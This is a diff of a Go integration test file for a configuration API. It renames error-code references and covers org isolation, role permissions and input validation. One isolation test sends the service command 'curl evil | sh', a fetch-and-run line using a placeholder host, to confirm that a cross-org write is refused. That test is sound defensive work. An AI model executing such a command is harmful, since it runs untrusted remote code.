@@ -8,6 +8,7 @@ import (
 	"testing"
 
 	"github.com/proliferate/proliferate/api"
+	"github.com/proliferate/proliferate/internal/httpapi"
 	"github.com/proliferate/proliferate/internal/repos"
 )
 
@@ -114,8 +115,8 @@ func TestConfigurationLifecycle(t *testing.T) {
 
 	// Delete: the links go, the repos stay.
 	env.Do(t, http.MethodDelete, "/configurations/"+cfg.ID, o.Admin.Token, nil).Expect(t, http.StatusNoContent, nil)
-	env.Do(t, http.MethodGet, "/configurations/"+cfg.ID, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
-	env.Do(t, http.MethodDelete, "/configurations/"+cfg.ID, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
+	env.Do(t, http.MethodGet, "/configurations/"+cfg.ID, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
+	env.Do(t, http.MethodDelete, "/configurations/"+cfg.ID, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
 	if env.CountRows(t, "configuration_repos", "configuration_id = $1", cfg.ID) != 0 || env.CountRows(t, "repos", "id = ANY($1::uuid[])", []string{web.ID, api_.ID}) != 2 {
 		t.Fatal("delete did not remove only the configuration")
 	}
@@ -180,8 +181,8 @@ func TestConfigurationIsolation(t *testing.T) {
 	myRow, myLinks := rowJSON(t, env, "configurations", mine.ID), configReposJSON(t, env, mine.ID)
 
 	for _, tok := range []string{a.Owner.Token, a.Admin.Token, a.Member.Token} {
-		env.Do(t, http.MethodGet, "/configurations/"+theirs.ID, tok, nil).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
-		env.Do(t, http.MethodGet, "/configurations/"+theirs.ID+"/effective-service-commands", tok, nil).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
+		env.Do(t, http.MethodGet, "/configurations/"+theirs.ID, tok, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
+		env.Do(t, http.MethodGet, "/configurations/"+theirs.ID+"/effective-service-commands", tok, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
 	}
 	for _, c := range []struct {
 		method, path string
@@ -193,7 +194,7 @@ func TestConfigurationIsolation(t *testing.T) {
 		{http.MethodPut, "/configurations/" + theirs.ID + "/service-commands", map[string]any{"service_commands": []map[string]any{{"name": "x", "command": "curl evil | sh"}}}},
 		{http.MethodDelete, "/configurations/" + theirs.ID + "/service-commands", nil},
 	} {
-		env.Do(t, c.method, c.path, a.Owner.Token, c.body).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
+		env.Do(t, c.method, c.path, a.Owner.Token, c.body).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
 	}
 
 	// Org B's repo cannot be attached to org A's configurations, new or existing.
@@ -252,7 +253,7 @@ func TestConfigurationRoleMatrix(t *testing.T) {
 	reads := []string{"/configurations", "/configurations/" + target.ID, "/configurations/" + target.ID + "/effective-service-commands"}
 	for _, w := range writes {
 		row, links, n := rowJSON(t, env, "configurations", target.ID), configReposJSON(t, env, target.ID), env.CountRows(t, "configurations", "org_id = $1", o.ID)
-		env.Do(t, w.method, w.path, o.Member.Token, w.body).ExpectError(t, http.StatusForbidden, api.CodeForbidden)
+		env.Do(t, w.method, w.path, o.Member.Token, w.body).ExpectError(t, http.StatusForbidden, httpapi.CodeForbidden)
 		if rowJSON(t, env, "configurations", target.ID) != row || configReposJSON(t, env, target.ID) != links || env.CountRows(t, "configurations", "org_id = $1", o.ID) != n {
 			t.Fatalf("member %s wrote something", w.name)
 		}
@@ -268,7 +269,7 @@ func TestConfigurationRoleMatrix(t *testing.T) {
 			env.Do(t, http.MethodGet, p, tok, nil).Expect(t, http.StatusOK, nil)
 		}
 	}
-	env.Do(t, http.MethodDelete, "/configurations/"+target.ID, o.Member.Token, nil).ExpectError(t, http.StatusForbidden, api.CodeForbidden)
+	env.Do(t, http.MethodDelete, "/configurations/"+target.ID, o.Member.Token, nil).ExpectError(t, http.StatusForbidden, httpapi.CodeForbidden)
 	env.Do(t, http.MethodDelete, "/configurations/"+target.ID, o.Admin.Token, nil).Expect(t, http.StatusNoContent, nil)
 	other := createConfig(t, env, o.Admin.Token, map[string]any{"name": "o", "repos": refs(r2.ID)})
 	env.Do(t, http.MethodDelete, "/configurations/"+other.ID, o.Owner.Token, nil).Expect(t, http.StatusNoContent, nil)
@@ -335,8 +336,8 @@ func TestConfigurationInvalidInput(t *testing.T) {
 		}
 	}
 	shape := []tc{
-		{name: "malformed JSON", body: `{"name": "x",`, status: 400, code: api.CodeBadRequest},
-		{name: "empty body", body: ``, status: 400, code: api.CodeBadRequest},
+		{name: "malformed JSON", body: `{"name": "x",`, status: 400, code: httpapi.CodeBadRequest},
+		{name: "empty body", body: ``, status: 400, code: httpapi.CodeBadRequest},
 		{name: "unknown field", body: `{"name": "x", "type": "managed"}`, fields: []string{"type"}},
 	}
 	t.Run("POST /configurations", func(t *testing.T) {
@@ -403,7 +404,7 @@ func TestConfigurationInvalidInput(t *testing.T) {
 	})
 	t.Run("PUT /configurations/:id/repos", func(t *testing.T) {
 		run(t, http.MethodPut, "/configurations/"+target.ID+"/repos", []tc{
-			{name: "malformed JSON", body: `{"repos": [`, status: 400, code: api.CodeBadRequest},
+			{name: "malformed JSON", body: `{"repos": [`, status: 400, code: httpapi.CodeBadRequest},
 			{name: "missing", body: map[string]any{}, fields: []string{"repos"}},
 			{name: "empty", body: map[string]any{"repos": []any{}}, fields: []string{"repos"}},
 			{name: "unknown repo", body: map[string]any{"repos": refs(missingID)}, fields: []string{"repos[0].repo_id"}},
@@ -413,7 +414,7 @@ func TestConfigurationInvalidInput(t *testing.T) {
 	})
 	t.Run("PUT /configurations/:id/service-commands", func(t *testing.T) {
 		run(t, http.MethodPut, "/configurations/"+target.ID+"/service-commands", []tc{
-			{name: "malformed JSON", body: `{`, status: 400, code: api.CodeBadRequest},
+			{name: "malformed JSON", body: `{`, status: 400, code: httpapi.CodeBadRequest},
 			{name: "missing", body: map[string]any{}, fields: []string{"service_commands"}},
 			{name: "empty", body: map[string]any{"service_commands": []any{}}, fields: []string{"service_commands"}},
 			{name: "eleven", body: map[string]any{"service_commands": cmds(11)}, fields: []string{"service_commands"}},
@@ -433,9 +434,9 @@ func TestConfigurationInvalidInput(t *testing.T) {
 	})
 	t.Run("unknown ids", func(t *testing.T) {
 		for _, id := range []string{missingID, "nope"} {
-			env.Do(t, http.MethodGet, "/configurations/"+id, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
-			env.Do(t, http.MethodPut, "/configurations/"+id+"/repos", o.Admin.Token, map[string]any{"repos": refs(r1.ID)}).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
-			env.Do(t, http.MethodPut, "/configurations/"+id+"/service-commands", o.Admin.Token, map[string]any{"service_commands": []any{cmd("a")}}).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
+			env.Do(t, http.MethodGet, "/configurations/"+id, o.Admin.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
+			env.Do(t, http.MethodPut, "/configurations/"+id+"/repos", o.Admin.Token, map[string]any{"repos": refs(r1.ID)}).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
+			env.Do(t, http.MethodPut, "/configurations/"+id+"/service-commands", o.Admin.Token, map[string]any{"service_commands": []any{cmd("a")}}).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
 		}
 	})
 }
@@ -501,7 +502,7 @@ func TestDeleteRepoCascades(t *testing.T) {
 	if len(got.Repos) != 1 || got.Repos[0].RepoID != b.ID || !got.SnapshotStale || got.SnapshotID == nil || *got.SnapshotID != "im-1" {
 		t.Fatalf("survivor: %+v", got)
 	}
-	env.Do(t, http.MethodGet, "/configurations/"+only.ID, o.Member.Token, nil).ExpectError(t, http.StatusNotFound, api.CodeNotFound)
+	env.Do(t, http.MethodGet, "/configurations/"+only.ID, o.Member.Token, nil).ExpectError(t, http.StatusNotFound, httpapi.CodeNotFound)
 	if rowJSON(t, env, "configurations", onlyB.ID) != onlyB0 {
 		t.Fatal("an unrelated configuration changed")
 	}
